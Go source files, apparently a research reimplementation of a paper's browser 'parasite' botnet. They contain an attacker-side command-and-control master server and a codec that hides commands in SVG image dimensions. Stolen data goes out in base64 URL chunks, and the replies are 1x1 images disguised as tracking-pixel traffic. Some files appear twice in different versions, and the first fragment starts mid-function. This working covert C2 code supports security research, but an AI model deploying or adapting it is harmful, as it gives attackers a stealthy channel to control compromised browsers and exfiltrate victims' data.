	m := svgDimRe.FindSubmatch(svg)
	if m == nil {
		return Dim{}, ErrBadSVG
	}
	w, err := strconv.Atoi(string(m[1]))
	if err != nil {
		return Dim{}, fmt.Errorf("%w: width", ErrBadSVG)
	}
	h, err := strconv.Atoi(string(m[2]))
	if err != nil {
		return Dim{}, fmt.Errorf("%w: height", ErrBadSVG)
	}
	return Dim{W: Clamp(w), H: Clamp(h)}, nil
}

// Upstream URL channel ------------------------------------------------

// DefaultChunkSize is the payload carried per upstream request URL. URLs
// have no hard protocol limit but middleboxes commonly cap around 2 KB;
// 1024 payload bytes encode to ~1366 URL characters.
const DefaultChunkSize = 1024

// EncodeURLChunks splits data into URL-safe base64 path segments of at
// most chunkSize payload bytes each.
func EncodeURLChunks(data []byte, chunkSize int) []string {
	if chunkSize <= 0 {
		chunkSize = DefaultChunkSize
	}
	var out []string
	for len(data) > 0 {
		n := chunkSize
		if n > len(data) {
			n = len(data)
		}
		out = append(out, base64.RawURLEncoding.EncodeToString(data[:n]))
		data = data[n:]
	}
	if len(out) == 0 {
		out = []string{""}
	}
	return out
}

// DecodeURLChunk reverses one chunk.
func DecodeURLChunk(chunk string) ([]byte, error) {
	b, err := base64.RawURLEncoding.DecodeString(chunk)
	if err != nil {
		return nil, fmt.Errorf("cnc: bad upstream chunk: %w", err)
	}
	return b, nil
}
