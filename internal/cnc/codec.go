// Package cnc implements the paper's bi-directional command-and-control
// channel (§VI-C, Fig. 4).
//
// Downstream (master → parasite) the channel abuses an HTTP information
// leak: when a page issues a cross-origin image request, the Same Origin
// Policy hides the pixels but exposes the image *dimensions* so the page
// can lay itself out. Each image therefore leaks two values in [0,65535]
// — 4 bytes. The images are SVG so the wire cost stays around 100 bytes
// per 4 payload bytes, and fetching many images concurrently yields a
// usable channel (the paper measures 100 KB/s).
//
// Upstream (parasite → master) data is encoded into request URLs, which
// carries no comparable bandwidth limit.
//
// The codec streams: every encoder has an Append form that writes into a
// caller-supplied buffer, and the decoders parse in place, so the hot
// paths (the master server rendering images, the bot decoding them) run
// without intermediate strings or slices.
package cnc

import (
	"encoding/base64"
	"errors"
	"fmt"
	"slices"
	"strconv"
)

// MaxDim is the largest dimension browsers accept; anything larger is
// downgraded to this value ("once the dimension is over 65,535, the
// browsers will downgrade it to this value"), so the alphabet per axis is
// [0, 65535].
const MaxDim = 65535

// BytesPerImage is the payload each image carries: two uint16 dimensions.
const BytesPerImage = 4

// Dim is one image's width and height.
type Dim struct {
	W uint16
	H uint16
}

// Clamp applies the browser downgrade rule to an arbitrary dimension.
func Clamp(v int) uint16 {
	if v < 0 {
		return 0
	}
	if v > MaxDim {
		return MaxDim
	}
	return uint16(v)
}

// EncodeDims converts a message into a sequence of image dimensions. The
// message is framed with a 4-byte big-endian length prefix so the decoder
// can strip padding.
func EncodeDims(msg []byte) []Dim {
	return AppendDims(make([]Dim, 0, ImagesNeeded(len(msg))), msg)
}

// AppendDims appends msg's image dimensions to dst and returns the
// result. The virtual framed stream (length prefix, message, zero
// padding) is walked directly — no framing buffer is materialised.
func AppendDims(dst []Dim, msg []byte) []Dim {
	byteAt := func(i int) byte {
		if i < 4 {
			return byte(uint32(len(msg)) >> (8 * (3 - i)))
		}
		if i -= 4; i < len(msg) {
			return msg[i]
		}
		return 0 // padding
	}
	for img, n := 0, ImagesNeeded(len(msg)); img < n; img++ {
		base := img * BytesPerImage
		dst = append(dst, Dim{
			W: uint16(byteAt(base))<<8 | uint16(byteAt(base+1)),
			H: uint16(byteAt(base+2))<<8 | uint16(byteAt(base+3)),
		})
	}
	return dst
}

// Errors returned by the decoders.
var (
	ErrTruncated = errors.New("cnc: truncated dimension stream")
	ErrBadSVG    = errors.New("cnc: not a channel SVG")
)

// framedLen validates the stream's length prefix and returns the framed
// message length.
func framedLen(dims []Dim) (int, error) {
	raw := len(dims) * BytesPerImage
	if raw < 4 {
		return 0, fmt.Errorf("%w: %d bytes", ErrTruncated, raw)
	}
	n := int(uint32(dims[0].W)<<16 | uint32(dims[0].H))
	if n > raw-4 {
		return 0, fmt.Errorf("%w: frame wants %d bytes, have %d", ErrTruncated, n, raw-4)
	}
	return n, nil
}

// DecodeDims reverses EncodeDims into one exact-size allocation.
func DecodeDims(dims []Dim) ([]byte, error) {
	n, err := framedLen(dims)
	if err != nil {
		return nil, err
	}
	return AppendDecodeDims(make([]byte, 0, n), dims)
}

// AppendDecodeDims appends the message framed in dims to dst and returns
// the result, reading the dimension stream in place. The 4-byte length
// prefix occupies exactly the first image, so the payload is the
// remaining dims' bytes, four at a time.
func AppendDecodeDims(dst []byte, dims []Dim) ([]byte, error) {
	need, err := framedLen(dims)
	if err != nil {
		return nil, err
	}
	for i := 1; need > 0 && i < len(dims); i++ {
		d := dims[i]
		quad := [BytesPerImage]byte{byte(d.W >> 8), byte(d.W), byte(d.H >> 8), byte(d.H)}
		take := need
		if take > BytesPerImage {
			take = BytesPerImage
		}
		dst = append(dst, quad[:take]...)
		need -= take
	}
	return dst, nil
}

// ImagesNeeded reports how many images carry a message of n bytes.
func ImagesNeeded(n int) int {
	framed := n + 4
	return (framed + BytesPerImage - 1) / BytesPerImage
}

// svgOpen, svgMid, svgClose spell the historical Sprintf format of the
// channel SVG; the rendered bytes are locked by the round-trip tests.
const (
	svgOpen  = `<svg xmlns="http://www.w3.org/2000/svg" width="`
	svgMid   = `" height="`
	svgClose = `"></svg>`
)

// RenderSVG produces the ~100-byte SVG whose only information content is
// its dimensions ("An SVG image, having no actual content, is of size 100
// bytes").
func RenderSVG(d Dim) []byte {
	return AppendSVG(make([]byte, 0, len(svgOpen)+len(svgMid)+len(svgClose)+10), d)
}

// AppendSVG appends the channel SVG for d to dst and returns the result.
func AppendSVG(dst []byte, d Dim) []byte {
	dst = append(dst, svgOpen...)
	dst = strconv.AppendUint(dst, uint64(d.W), 10)
	dst = append(dst, svgMid...)
	dst = strconv.AppendUint(dst, uint64(d.H), 10)
	return append(dst, svgClose...)
}

// isSpace matches the characters regexp's \s class accepts.
func isSpace(c byte) bool {
	return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\v' || c == '\f'
}

// parseDimInt reads a decimal run starting at svg[i]. It mirrors how the
// historical regexp+strconv.Atoi pair behaved: matching is structural
// (any non-empty digit run matches, ok=true), and only the *winning*
// match's values were ever handed to Atoi — so an out-of-range run still
// matches here and reports overflow for the caller to surface then.
func parseDimInt(svg []byte, i int) (v, end int, ok, overflow bool) {
	start := i
	n := int64(0)
	for i < len(svg) && svg[i] >= '0' && svg[i] <= '9' {
		if n > (1<<63-1-9)/10 {
			overflow = true // out of the Atoi range; keep consuming digits
		} else {
			n = n*10 + int64(svg[i]-'0')
		}
		i++
	}
	if n > MaxDim {
		n = MaxDim + 1 // anything past the clamp ceiling is equivalent
	}
	return int(n), i, i > start, overflow
}

// parseSVGAt extracts the `\swidth="(\d+)"\s+height="(\d+)"` attribute
// pair from the tag opening at svg[at:] (which must start with "<svg").
// Attribute search stops at the tag's closing '>'.
func parseSVGAt(svg []byte, at int) (d Dim, end int, err error) {
	i := at + len("<svg")
	for {
		// Find a whitespace-preceded `width="` before the tag closes.
		for i < len(svg) && svg[i] != '>' && !(isSpace(svg[i]) && hasPrefixAt(svg, i+1, `width="`)) {
			i++
		}
		if i >= len(svg) || svg[i] == '>' {
			return Dim{}, i, ErrBadSVG
		}
		i += 1 + len(`width="`)
		w, j, ok, wOver := parseDimInt(svg, i)
		if !ok || j >= len(svg) || svg[j] != '"' {
			i = j // backtrack: keep looking for a later width attribute
			continue
		}
		j++
		k := j
		for k < len(svg) && isSpace(svg[k]) {
			k++
		}
		if k == j || !hasPrefixAt(svg, k, `height="`) {
			i = j
			continue
		}
		k += len(`height="`)
		h, m, ok, hOver := parseDimInt(svg, k)
		if !ok || m >= len(svg) || svg[m] != '"' {
			i = k
			continue
		}
		// Structural match found — only now do the captured values get
		// range-checked, exactly when Atoi used to run.
		if wOver {
			return Dim{}, m, fmt.Errorf("%w: width", ErrBadSVG)
		}
		if hOver {
			return Dim{}, m, fmt.Errorf("%w: height", ErrBadSVG)
		}
		return Dim{W: Clamp(w), H: Clamp(h)}, m + 1, nil
	}
}

func hasPrefixAt(b []byte, i int, prefix string) bool {
	if i+len(prefix) > len(b) {
		return false
	}
	for j := 0; j < len(prefix); j++ {
		if b[i+j] != prefix[j] {
			return false
		}
	}
	return true
}

// ParseSVG extracts the dimensions from a channel SVG, applying the
// browser clamp — this is what the victim browser exposes to the page.
// The scan is a hand-written equivalent of the historical regexp
// (`<svg[^>]*\swidth="(\d+)"\s+height="(\d+)"`) and allocates nothing.
func ParseSVG(svg []byte) (Dim, error) {
	for at := 0; at+len("<svg") <= len(svg); at++ {
		if !hasPrefixAt(svg, at, "<svg") {
			continue
		}
		d, _, err := parseSVGAt(svg, at)
		if err == nil {
			return d, nil
		}
		if err != ErrBadSVG {
			// The structurally-first match carries an out-of-range digit
			// run: this is where the historical parser's Atoi failed.
			return Dim{}, err
		}
	}
	return Dim{}, ErrBadSVG
}

// Batched downstream -----------------------------------------------------

// batchOpen and batchClose wrap a batch of channel SVGs into one sprite
// document: each nested <svg> tile carries one image's dimensions. One
// sprite fetch stands in for a browser multiplexing many simultaneous
// image requests over a single connection, which is what makes the bulk
// downstream path RTT-efficient.
const (
	batchOpen  = `<svg xmlns="http://www.w3.org/2000/svg">`
	batchClose = `</svg>`

	// maxTileLen bounds one rendered sprite tile
	// (`<svg width="65535" height="65535"></svg>`).
	maxTileLen = len(`<svg width="`) + 5 + len(svgMid) + 5 + len(svgClose)
)

// AppendBatchSVG appends the sprite document carrying dims to dst.
func AppendBatchSVG(dst []byte, dims []Dim) []byte {
	dst = append(dst, batchOpen...)
	for _, d := range dims {
		dst = append(dst, `<svg width="`...)
		dst = strconv.AppendUint(dst, uint64(d.W), 10)
		dst = append(dst, svgMid...)
		dst = strconv.AppendUint(dst, uint64(d.H), 10)
		dst = append(dst, svgClose...)
	}
	return append(dst, batchClose...)
}

// ParseBatchSVG appends every tile's dimensions in document order to dst.
// A plain (non-sprite) channel SVG decodes as a batch of one.
func ParseBatchSVG(dst []Dim, svg []byte) ([]Dim, error) {
	n := len(dst)
	at := 0
	for at+len("<svg") <= len(svg) {
		if !hasPrefixAt(svg, at, "<svg") {
			at++
			continue
		}
		d, end, err := parseSVGAt(svg, at)
		if err != nil {
			// The sprite wrapper itself has no width/height; skip it.
			at += len("<svg")
			continue
		}
		dst = append(dst, d)
		at = end
	}
	if len(dst) == n {
		return dst, ErrBadSVG
	}
	return dst, nil
}

// Upstream URL channel ------------------------------------------------

// DefaultChunkSize is the payload carried per upstream request URL. URLs
// have no hard protocol limit but middleboxes commonly cap around 2 KB;
// 1024 payload bytes encode to ~1366 URL characters.
const DefaultChunkSize = 1024

// EncodeURLChunks splits data into URL-safe base64 path segments of at
// most chunkSize payload bytes each.
func EncodeURLChunks(data []byte, chunkSize int) []string {
	if chunkSize <= 0 {
		chunkSize = DefaultChunkSize
	}
	var out []string
	for len(data) > 0 {
		n := chunkSize
		if n > len(data) {
			n = len(data)
		}
		out = append(out, base64.RawURLEncoding.EncodeToString(data[:n]))
		data = data[n:]
	}
	if len(out) == 0 {
		out = []string{""}
	}
	return out
}

// AppendURLChunk appends the URL-safe encoding of one chunk to dst and
// returns the result — the streaming form of EncodeURLChunks for callers
// assembling request URLs in a reused buffer.
func AppendURLChunk(dst, chunk []byte) []byte {
	n := base64.RawURLEncoding.EncodedLen(len(chunk))
	dst = slices.Grow(dst, n)
	out := dst[:len(dst)+n]
	base64.RawURLEncoding.Encode(out[len(dst):], chunk)
	return out
}

// DecodeURLChunk reverses one chunk.
func DecodeURLChunk(chunk string) ([]byte, error) {
	b, err := base64.RawURLEncoding.DecodeString(chunk)
	if err != nil {
		return nil, fmt.Errorf("cnc: bad upstream chunk: %w", err)
	}
	return b, nil
}

// AppendDecodeURLChunk appends one chunk's decoded bytes to dst.
func AppendDecodeURLChunk(dst []byte, chunk string) ([]byte, error) {
	n := base64.RawURLEncoding.DecodedLen(len(chunk))
	dst = slices.Grow(dst, n)
	wrote, err := base64.RawURLEncoding.Decode(dst[len(dst):len(dst)+n], []byte(chunk))
	if err != nil {
		return nil, fmt.Errorf("cnc: bad upstream chunk: %w", err)
	}
	return dst[:len(dst)+wrote], nil
}
