package cnc

import (
	"fmt"
	"net"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
)

// command is one queued downstream message.
type command struct {
	id   int
	dims []Dim
}

// MasterServer is the attacker-side C&C endpoint. It serves the covert
// image channel over plain HTTP: to any observer it is a web server
// handing out small SVG graphics and receiving ordinary GET requests.
//
// Routes:
//
//	GET /meta/{bot}.svg          → dims encode (latest command id, image count)
//	GET /img/{bot}/{id}/{seq}.svg → image #seq of command id
//	GET /up/{bot}/{stream}/{seq}/{chunk} → upstream data chunk
//	GET /up/{bot}/{stream}/fin    → upstream stream complete
type MasterServer struct {
	// Delay is an artificial per-request service delay, used by the
	// throughput experiments to model a network RTT: the channel is
	// RTT-bound, which is why the paper's 100 KB/s figure requires
	// "a client which sends requests for multiple images simultaneously".
	Delay time.Duration

	mu       sync.Mutex
	nextID   int
	commands map[string][]command           // bot → queued commands
	uploads  map[string]map[string][][]byte // bot → stream → ordered chunks
	finished map[string]map[string]bool     // bot → stream → fin received
}

// NewMasterServer returns an empty C&C server.
func NewMasterServer() *MasterServer {
	return &MasterServer{
		nextID:   1,
		commands: make(map[string][]command),
		uploads:  make(map[string]map[string][][]byte),
		finished: make(map[string]map[string]bool),
	}
}

var _ http.Handler = (*MasterServer)(nil)

// QueueCommand queues a downstream command for a bot and returns its id.
func (m *MasterServer) QueueCommand(bot string, payload []byte) int {
	m.mu.Lock()
	defer m.mu.Unlock()
	id := m.nextID
	m.nextID++
	m.commands[bot] = append(m.commands[bot], command{id: id, dims: EncodeDims(payload)})
	return id
}

// Upload returns the reassembled upstream payload of a finished stream.
func (m *MasterServer) Upload(bot, stream string) ([]byte, bool) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if !m.finished[bot][stream] {
		return nil, false
	}
	var out []byte
	for _, chunk := range m.uploads[bot][stream] {
		out = append(out, chunk...)
	}
	return out, true
}

// Streams lists finished upstream stream names for a bot, sorted.
func (m *MasterServer) Streams(bot string) []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	var out []string
	for s, fin := range m.finished[bot] {
		if fin {
			out = append(out, s)
		}
	}
	sort.Strings(out)
	return out
}

// Bots lists every bot that has ever uploaded or been queued a command.
func (m *MasterServer) Bots() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	seen := make(map[string]struct{})
	for b := range m.commands {
		seen[b] = struct{}{}
	}
	for b := range m.uploads {
		seen[b] = struct{}{}
	}
	out := make([]string, 0, len(seen))
	for b := range seen {
		out = append(out, b)
	}
	sort.Strings(out)
	return out
}

// ServeHTTP implements the covert routes.
func (m *MasterServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if m.Delay > 0 {
		time.Sleep(m.Delay)
	}
	parts := strings.Split(strings.Trim(r.URL.Path, "/"), "/")
	switch {
	case len(parts) == 2 && parts[0] == "meta" && strings.HasSuffix(parts[1], ".svg"):
		m.serveMeta(w, strings.TrimSuffix(parts[1], ".svg"))
	case len(parts) == 4 && parts[0] == "img" && strings.HasSuffix(parts[3], ".svg"):
		m.serveImage(w, parts[1], parts[2], strings.TrimSuffix(parts[3], ".svg"))
	case len(parts) == 4 && parts[0] == "up" && parts[3] == "fin":
		m.finishUpload(w, parts[1], parts[2])
	case len(parts) == 5 && parts[0] == "up":
		m.acceptUpload(w, parts[1], parts[2], parts[3], parts[4])
	default:
		http.NotFound(w, r)
	}
}

func writeSVG(w http.ResponseWriter, d Dim) {
	w.Header().Set("Content-Type", "image/svg+xml")
	// The images must never be cached: each poll must hit the master.
	w.Header().Set("Cache-Control", "no-store")
	_, _ = w.Write(RenderSVG(d))
}

func (m *MasterServer) serveMeta(w http.ResponseWriter, bot string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	cmds := m.commands[bot]
	if len(cmds) == 0 {
		writeSVG(w, Dim{}) // id 0 = nothing pending
		return
	}
	latest := cmds[len(cmds)-1]
	writeSVG(w, Dim{W: Clamp(latest.id), H: Clamp(len(latest.dims))})
}

func (m *MasterServer) serveImage(w http.ResponseWriter, bot, idStr, seqStr string) {
	id, err1 := strconv.Atoi(idStr)
	seq, err2 := strconv.Atoi(seqStr)
	if err1 != nil || err2 != nil {
		http.Error(w, "bad ref", http.StatusBadRequest)
		return
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	for _, c := range m.commands[bot] {
		if c.id != id {
			continue
		}
		if seq < 0 || seq >= len(c.dims) {
			http.Error(w, "bad seq", http.StatusNotFound)
			return
		}
		writeSVG(w, c.dims[seq])
		return
	}
	http.NotFound(w, nil)
}

func (m *MasterServer) acceptUpload(w http.ResponseWriter, bot, stream, seqStr, chunk string) {
	seq, err := strconv.Atoi(seqStr)
	if err != nil || seq < 0 {
		http.Error(w, "bad seq", http.StatusBadRequest)
		return
	}
	data, err := DecodeURLChunk(chunk)
	if err != nil {
		http.Error(w, "bad chunk", http.StatusBadRequest)
		return
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.uploads[bot] == nil {
		m.uploads[bot] = make(map[string][][]byte)
	}
	chunks := m.uploads[bot][stream]
	for len(chunks) <= seq {
		chunks = append(chunks, nil)
	}
	chunks[seq] = data
	m.uploads[bot][stream] = chunks
	// Responding with a 1x1 image keeps the exchange looking like
	// ordinary tracking-pixel traffic.
	writeSVG(w, Dim{W: 1, H: 1})
}

func (m *MasterServer) finishUpload(w http.ResponseWriter, bot, stream string) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.finished[bot] == nil {
		m.finished[bot] = make(map[string]bool)
	}
	m.finished[bot][stream] = true
	writeSVG(w, Dim{W: 1, H: 1})
}

// Serve starts the master on a loopback listener and returns its base
// URL and a shutdown function.
func (m *MasterServer) Serve() (baseURL string, shutdown func() error, err error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", nil, fmt.Errorf("cnc master listen: %w", err)
	}
	srv := &http.Server{Handler: m}
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	shutdown = func() error {
		err := srv.Close()
		<-done
		return err
	}
	return "http://" + ln.Addr().String(), shutdown, nil
}
