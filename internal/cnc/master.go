package cnc

import (
	"fmt"
	"net"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
)

// command is one queued downstream message.
type command struct {
	id   int
	dims []Dim
}

// MasterServer is the attacker-side C&C endpoint. It serves the covert
// image channel over plain HTTP: to any observer it is a web server
// handing out small SVG graphics and receiving ordinary GET requests.
//
// Routes:
//
//	GET /meta/{bot}.svg          → dims encode (latest command id, image count)
//	GET /img/{bot}/{id}/{seq}.svg → image #seq of command id
//	GET /batch/{bot}/{id}/{from}/{count}.svg → sprite of count images from #from
//	GET /up/{bot}/{stream}/{seq}/{chunk} → upstream data chunk
//	GET /up/{bot}/{stream}/fin    → upstream stream complete
type MasterServer struct {
	// Delay is an artificial per-request service delay, used by the
	// throughput experiments to model a network RTT: the channel is
	// RTT-bound, which is why the paper's 100 KB/s figure requires
	// "a client which sends requests for multiple images simultaneously".
	Delay time.Duration

	mu       sync.Mutex
	nextID   int
	commands map[string][]command           // bot → queued commands (ids ascending)
	uploads  map[string]map[string][][]byte // bot → stream → ordered chunks
	finished map[string]map[string]bool     // bot → stream → fin received

	observer func(Exchange)
}

// Exchange describes one routed covert-channel request/response pair, as
// reported to the exchange observer: which bot spoke, the request path,
// and what went back. Unroutable paths carry an empty Bot.
type Exchange struct {
	Bot       string
	Path      string
	Status    int
	RespBytes int
}

// SetExchangeObserver installs a hook invoked after every Route dispatch.
// It exists for the record/replay subsystem: inside the simulation Route
// runs on the single-threaded event loop, so the observer sees exchanges
// in deterministic order. A server driven over real sockets (ServeHTTP)
// calls the observer concurrently — install one there only if it locks.
func (m *MasterServer) SetExchangeObserver(fn func(Exchange)) { m.observer = fn }

// NewMasterServer returns an empty C&C server.
func NewMasterServer() *MasterServer {
	return &MasterServer{
		nextID:   1,
		commands: make(map[string][]command),
		uploads:  make(map[string]map[string][][]byte),
		finished: make(map[string]map[string]bool),
	}
}

var _ http.Handler = (*MasterServer)(nil)

// QueueCommand queues a downstream command for a bot and returns its id.
func (m *MasterServer) QueueCommand(bot string, payload []byte) int {
	m.mu.Lock()
	defer m.mu.Unlock()
	id := m.nextID
	m.nextID++
	m.commands[bot] = append(m.commands[bot], command{id: id, dims: EncodeDims(payload)})
	return id
}

// Upload returns the reassembled upstream payload of a finished stream.
func (m *MasterServer) Upload(bot, stream string) ([]byte, bool) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if !m.finished[bot][stream] {
		return nil, false
	}
	var out []byte
	for _, chunk := range m.uploads[bot][stream] {
		out = append(out, chunk...)
	}
	return out, true
}

// Streams lists finished upstream stream names for a bot, sorted.
func (m *MasterServer) Streams(bot string) []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	var out []string
	for s, fin := range m.finished[bot] {
		if fin {
			out = append(out, s)
		}
	}
	sort.Strings(out)
	return out
}

// Bots lists every bot that has ever uploaded or been queued a command.
func (m *MasterServer) Bots() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	seen := make(map[string]struct{})
	for b := range m.commands {
		seen[b] = struct{}{}
	}
	for b := range m.uploads {
		seen[b] = struct{}{}
	}
	out := make([]string, 0, len(seen))
	for b := range seen {
		out = append(out, b)
	}
	sort.Strings(out)
	return out
}

// Content types served by the channel. Error responses mirror what
// net/http's Error helper put on the wire historically, so the simulated
// responses stay byte-identical.
const (
	svgContentType   = "image/svg+xml"
	plainContentType = "text/plain; charset=utf-8"
)

// Route dispatches one covert-channel request path, appending the
// response body to dst (whose capacity is reused). It is the transport-
// independent core shared by ServeHTTP (real loopback sockets) and the
// in-simulation httpsim adapter, which no longer pays for net/http
// request/recorder scaffolding per covert image.
func (m *MasterServer) Route(path string, dst []byte) (status int, contentType string, body []byte) {
	var bot string
	status, contentType, body = m.route(path, dst, &bot)
	if m.observer != nil {
		m.observer(Exchange{Bot: bot, Path: path, Status: status, RespBytes: len(body)})
	}
	return status, contentType, body
}

// route is Route's dispatch, additionally reporting which bot the path
// addressed (empty for unroutable paths).
func (m *MasterServer) route(path string, dst []byte, bot *string) (status int, contentType string, body []byte) {
	p := strings.Trim(path, "/")
	var parts [5]string
	n := 0
	for n < len(parts) {
		i := strings.IndexByte(p, '/')
		if i < 0 {
			parts[n] = p
			p = ""
			n++
			break
		}
		parts[n] = p[:i]
		p = p[i+1:]
		n++
	}
	if p != "" { // more than five segments
		return errorBody(dst, http.StatusNotFound, "404 page not found")
	}
	switch {
	case n == 2 && parts[0] == "meta" && strings.HasSuffix(parts[1], ".svg"):
		*bot = strings.TrimSuffix(parts[1], ".svg")
		return m.serveMeta(dst, *bot)
	case n == 4 && parts[0] == "img" && strings.HasSuffix(parts[3], ".svg"):
		*bot = parts[1]
		return m.serveImage(dst, parts[1], parts[2], strings.TrimSuffix(parts[3], ".svg"))
	case n == 5 && parts[0] == "batch" && strings.HasSuffix(parts[4], ".svg"):
		*bot = parts[1]
		return m.serveBatch(dst, parts[1], parts[2], parts[3], strings.TrimSuffix(parts[4], ".svg"))
	case n == 4 && parts[0] == "up" && parts[3] == "fin":
		*bot = parts[1]
		return m.finishUpload(dst, parts[1], parts[2])
	case n == 5 && parts[0] == "up":
		*bot = parts[1]
		return m.acceptUpload(dst, parts[1], parts[2], parts[3], parts[4])
	default:
		return errorBody(dst, http.StatusNotFound, "404 page not found")
	}
}

// svgBody renders a single channel SVG response.
func svgBody(dst []byte, d Dim) (int, string, []byte) {
	return http.StatusOK, svgContentType, AppendSVG(dst, d)
}

// errorBody renders an error the way http.Error spells it on the wire.
func errorBody(dst []byte, status int, msg string) (int, string, []byte) {
	dst = append(dst, msg...)
	return status, plainContentType, append(dst, '\n')
}

// lookup finds a queued command by id (ids are assigned ascending, so the
// per-bot queue is sorted and binary-searchable).
func (m *MasterServer) lookup(bot string, id int) (command, bool) {
	cmds := m.commands[bot]
	i := sort.Search(len(cmds), func(i int) bool { return cmds[i].id >= id })
	if i < len(cmds) && cmds[i].id == id {
		return cmds[i], true
	}
	return command{}, false
}

func (m *MasterServer) serveMeta(dst []byte, bot string) (int, string, []byte) {
	m.mu.Lock()
	defer m.mu.Unlock()
	cmds := m.commands[bot]
	if len(cmds) == 0 {
		return svgBody(dst, Dim{}) // id 0 = nothing pending
	}
	latest := cmds[len(cmds)-1]
	return svgBody(dst, Dim{W: Clamp(latest.id), H: Clamp(len(latest.dims))})
}

func (m *MasterServer) serveImage(dst []byte, bot, idStr, seqStr string) (int, string, []byte) {
	id, err1 := strconv.Atoi(idStr)
	seq, err2 := strconv.Atoi(seqStr)
	if err1 != nil || err2 != nil {
		return errorBody(dst, http.StatusBadRequest, "bad ref")
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	c, ok := m.lookup(bot, id)
	if !ok {
		return errorBody(dst, http.StatusNotFound, "404 page not found")
	}
	if seq < 0 || seq >= len(c.dims) {
		return errorBody(dst, http.StatusNotFound, "bad seq")
	}
	return svgBody(dst, c.dims[seq])
}

func (m *MasterServer) serveBatch(dst []byte, bot, idStr, fromStr, countStr string) (int, string, []byte) {
	id, err1 := strconv.Atoi(idStr)
	from, err2 := strconv.Atoi(fromStr)
	count, err3 := strconv.Atoi(countStr)
	if err1 != nil || err2 != nil || err3 != nil || count <= 0 {
		return errorBody(dst, http.StatusBadRequest, "bad ref")
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	c, ok := m.lookup(bot, id)
	if !ok {
		return errorBody(dst, http.StatusNotFound, "404 page not found")
	}
	if from < 0 || from >= len(c.dims) {
		return errorBody(dst, http.StatusNotFound, "bad seq")
	}
	if count > len(c.dims)-from { // overflow-safe: both sides non-negative
		count = len(c.dims) - from
	}
	return http.StatusOK, svgContentType, AppendBatchSVG(dst, c.dims[from:from+count])
}

func (m *MasterServer) acceptUpload(dst []byte, bot, stream, seqStr, chunk string) (int, string, []byte) {
	seq, err := strconv.Atoi(seqStr)
	if err != nil || seq < 0 {
		return errorBody(dst, http.StatusBadRequest, "bad seq")
	}
	data, err := DecodeURLChunk(chunk)
	if err != nil {
		return errorBody(dst, http.StatusBadRequest, "bad chunk")
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.uploads[bot] == nil {
		m.uploads[bot] = make(map[string][][]byte)
	}
	chunks := m.uploads[bot][stream]
	for len(chunks) <= seq {
		chunks = append(chunks, nil)
	}
	chunks[seq] = data
	m.uploads[bot][stream] = chunks
	// Responding with a 1x1 image keeps the exchange looking like
	// ordinary tracking-pixel traffic.
	return svgBody(dst, Dim{W: 1, H: 1})
}

func (m *MasterServer) finishUpload(dst []byte, bot, stream string) (int, string, []byte) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.finished[bot] == nil {
		m.finished[bot] = make(map[string]bool)
	}
	m.finished[bot][stream] = true
	return svgBody(dst, Dim{W: 1, H: 1})
}

// SetResponseHeaders applies the channel's response-header policy via
// set. It is the single source of truth shared by ServeHTTP (real
// sockets) and the in-simulation httpsim adapter, so the two transports
// cannot silently diverge on the wire.
func SetResponseHeaders(status int, contentType string, set func(key, value string)) {
	set("Content-Type", contentType)
	if status == http.StatusOK {
		// The images must never be cached: each poll must hit the master.
		set("Cache-Control", "no-store")
	} else {
		// Mirror what http.Error put on the wire historically.
		set("X-Content-Type-Options", "nosniff")
	}
}

// respBufPool recycles response-body scratch across concurrent requests.
var respBufPool = sync.Pool{New: func() any { b := make([]byte, 0, 512); return &b }}

// ServeHTTP implements the covert routes over net/http.
func (m *MasterServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if m.Delay > 0 {
		time.Sleep(m.Delay)
	}
	bufp := respBufPool.Get().(*[]byte)
	status, ctype, body := m.Route(r.URL.Path, (*bufp)[:0])
	h := w.Header()
	SetResponseHeaders(status, ctype, h.Set)
	w.WriteHeader(status)
	_, _ = w.Write(body)
	*bufp = body[:0]
	respBufPool.Put(bufp)
}

// Serve starts the master on a loopback listener and returns its base
// URL and a shutdown function.
func (m *MasterServer) Serve() (baseURL string, shutdown func() error, err error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", nil, fmt.Errorf("cnc master listen: %w", err)
	}
	srv := &http.Server{Handler: m}
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	shutdown = func() error {
		err := srv.Close()
		<-done
		return err
	}
	return "http://" + ln.Addr().String(), shutdown, nil
}
